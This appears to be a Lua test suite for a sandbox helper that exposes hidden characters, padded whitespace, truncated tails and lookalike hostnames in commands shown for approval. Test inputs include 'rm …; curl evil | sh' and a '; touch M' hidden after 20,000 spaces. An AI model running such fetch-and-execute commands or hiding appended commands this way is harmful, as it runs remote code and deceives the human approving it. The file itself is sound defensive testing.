--- What a question shows is what runs: the characters a terminal draws as
--- nothing, draws elsewhere or reorders are marked; long runs of spaces are
--- counted; a long text keeps its end.
local vt = require("flemma_sandbox.base.visible_text")

--- UTF-8 of a code point.
local function u(cp)
  if cp < 0x80 then
    return string.char(cp)
  elseif cp < 0x800 then
    return string.char(0xC0 + math.floor(cp / 64), 0x80 + cp % 64)
  elseif cp < 0x10000 then
    return string.char(0xE0 + math.floor(cp / 4096), 0x80 + math.floor(cp / 64) % 64, 0x80 + cp % 64)
  end
  return string.char(
    0xF0 + math.floor(cp / 262144),
    0x80 + math.floor(cp / 4096) % 64,
    0x80 + math.floor(cp / 64) % 64,
    0x80 + cp % 64
  )
end

describe("visible_text.line", function()
  it("shows 20,000 spaces before '; touch M' as a count, and the rest as it is", function()
    local shown, marked = vt.line("echo build" .. string.rep(" ", 20000) .. "; touch M")
    assert.are.equal("echo build<20000 spaces>; touch M", shown)
    assert.is_true(marked)
  end)

  it("keeps short runs of spaces and plain text as they are", function()
    local shown, marked = vt.line("ls -la    /tmp && echo 'héllo wörld' ✓")
    assert.are.equal("ls -la    /tmp && echo 'héllo wörld' ✓", shown)
    assert.is_false(marked)
  end)

  local cases = {
    { "right-to-left override", 0x202E },
    { "Arabic letter mark", 0x061C },
    { "line separator", 0x2028 },
    { "paragraph separator", 0x2029 },
    { "zero-width space", 0x200B },
    { "zero-width joiner", 0x200D },
    { "first-strong isolate", 0x2068 },
    { "byte order mark", 0xFEFF },
    { "tag LATIN A", 0xE0041 },
    { "cancel tag", 0xE007F },
    { "variation selector", 0xFE0F },
    { "private use", 0xE000 },
    { "private use plane 15", 0xF0001 },
    { "no-break space", 0xA0 },
    { "ideographic space", 0x3000 },
    { "escape", 0x1B },
    { "carriage return", 0x0D },
    { "tab", 0x09 },
    { "C1 control", 0x9B },
    { "DEL", 0x7F },
  }
  for _, case in ipairs(cases) do
    it("marks " .. case[1] .. string.format(" (U+%04X)", case[2]), function()
      local shown, marked = vt.line("echo a" .. u(case[2]) .. "b")
      assert.are.equal(string.format("echo a<U+%04X>b", case[2]), shown)
      assert.is_true(marked)
    end)
  end

  it("marks bytes that are not UTF-8: stray, overlong, surrogates", function()
    assert.are.equal("a<0xFF>b", (vt.line("a\255b")))
    assert.are.equal("<0xC0><0xAF>", (vt.line("\192\175"))) -- overlong "/"
    assert.are.equal("<0xED><0xA0><0x80>", (vt.line("\237\160\128"))) -- U+D800
    assert.are.equal("x<0xE2><0x80>", (vt.line("x\226\128"))) -- cut short
  end)

  it("keeps the start and the end of a line past LINE_MAX", function()
    local line = "rm " .. string.rep("a", 10000) .. " ; curl evil | sh"
    local shown = vt.line(line)
    assert.truthy(shown:find("; curl evil | sh", 1, true), "the end is shown")
    assert.truthy(shown:find("^rm a"))
    assert.truthy(shown:find("<%d+ more characters>"))
  end)
end)

describe("visible_text.fit", function()
  it("keeps the first and the last lines around a count, within the rows", function()
    local lines = {}
    for i = 1, 100 do
      lines[i] = "line " .. i
    end
    local out = vt.fit(lines, 9)
    assert.are.equal(9, #out)
    assert.are.equal("line 1", out[1])
    assert.are.equal("line 100", out[9], "the end is never hidden")
    local marker
    for _, l in ipairs(out) do
      marker = marker or l:match("^<(%d+) more lines>$")
    end
    assert.are.equal("92", marker)
  end)

  it("leaves lines that fit alone", function()
    assert.are.same({ "a", "b" }, vt.fit({ "a", "b" }, 2))
  end)
end)

describe("visible_text.host", function()
  it("warns about internationalized labels and bytes outside ASCII", function()
    local _, w = vt.host("xn--pple-43d.com")
    assert.matches("internationalized", w)
    local shown, w2 = vt.host("аpple.com") -- Cyrillic а
    assert.matches("outside ASCII", w2)
    assert.are.equal("аpple.com", shown)
    assert.is_nil(select(2, vt.host("api.anthropic.com")))
  end)
end)
